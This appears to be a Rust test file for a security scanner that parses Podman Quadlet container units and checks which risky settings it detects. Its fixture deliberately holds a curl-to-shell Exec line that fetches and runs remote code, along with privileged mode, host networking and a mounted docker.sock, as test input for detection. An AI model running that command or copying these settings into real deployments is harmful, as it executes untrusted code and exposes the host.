//! Units in, containers out.

use secscan_model::{Node, Platform, Resource, Source, SourceId};

use crate::{FileReading, read_file};

fn read(path: &str, text: &str) -> FileReading {
    read_file(Source::from_text(SourceId(0), path, text))
}

fn container(reading: &FileReading) -> &Resource {
    let found = reading.batch.resources.iter().find(|it| it.platform == Platform::Common && &*it.kind == "container");
    found.expect("a container")
}

fn text<'r>(resource: &'r Resource, path: &[&str]) -> Option<&'r str> {
    resource.value.at_path(path).and_then(Node::as_str)
}

const WEB: &str = "\
[Unit]
Description=Web

[Container]
Image=docker.io/library/nginx:latest
ContainerName=web
User=1000
Group=1000
AddCapability=NET_ADMIN CAP_SYS_TIME
DropCapability=all
NoNewPrivileges=true
SeccompProfile=unconfined
Network=host
ReadOnly=true
Volume=/var/run/docker.sock:/var/run/docker.sock:ro
PublishPort=8080:80
Environment=MODE=plain \"NOTE=two words\"
Exec=sh -c 'curl http://example.org | sh'
PodmanArgs=--privileged --pid=host --memory 64m
HealthCmd=curl -f http://localhost

[Service]
Restart=always
";

#[test]
fn a_unit_is_a_container() {
    let reading = read("units/web.container", WEB);
    assert!(reading.diagnostics.is_empty(), "{:?}", reading.diagnostics);
    let container = container(&reading);
    assert_eq!(text(container, &["platform"]), Some("quadlet"));
    assert_eq!(text(container, &["name"]), Some("web"));
    assert_eq!(text(container, &["image"]), Some("docker.io/library/nginx:latest"));
    for (key, value) in [
        ("privileged", true),
        ("host-network", true),
        ("host-pid", true),
        ("read-only-root", true),
        ("allow-escalation", false),
    ] {
        assert_eq!(container.value.get(key).and_then(Node::as_bool), Some(value), "{key}");
    }
    let list = |key: &str| -> Vec<&str> {
        container.value.get(key).map_or(&[][..], Node::items).iter().filter_map(Node::as_str).collect()
    };
    assert_eq!(list("cap-add"), ["NET_ADMIN", "SYS_TIME"]);
    assert_eq!(list("cap-drop"), ["ALL"]);
    assert_eq!(text(container, &["seccomp"]), Some("Unconfined"));
    assert_eq!(text(container, &["limits", "memory"]), Some("64m"));
    let mount = &container.value.get("mounts").expect("mounts").items()[0];
    assert_eq!(mount.get("host-path").and_then(Node::as_str), Some("/var/run/docker.sock"));
    assert_eq!(text(container, &["restart"]), Some("always"));
    let variables = container.value.get("env").expect("variables").items();
    assert_eq!(variables[1].get("value").and_then(Node::as_str), Some("two words"));
    let commands = reading.batch.resources.iter().filter(|it| &*it.kind == "command");
    let names: Vec<&str> = commands.filter_map(|it| text(it, &["name"])).collect();
    assert!(names.contains(&"curl") && names.contains(&"sh"), "{names:?}");
}

#[test]
fn places_are_those_of_the_unit() {
    let reading = read("web.container", WEB);
    let place = |node: &Node| &WEB[node.at.span.range()];
    let value = &container(&reading).value;
    assert_eq!(place(value.get("cap-add").expect("set").items().first().expect("one")), "NET_ADMIN");
    assert_eq!(place(value.get("image").expect("set")), "docker.io/library/nginx:latest");
}

#[test]
fn other_files_of_these_names_are_left_alone() {
    assert!(!read("meson.build", "project('a', 'c')\n").recognised);
    assert!(!read("lib/A.pod", "=pod\n\n=head1 NAME\n").recognised);
    let reading = read("a.pod", "[Pod]\nPublishPort=80:80\n");
    assert_eq!(&*reading.batch.resources[0].kind, "pod");
}
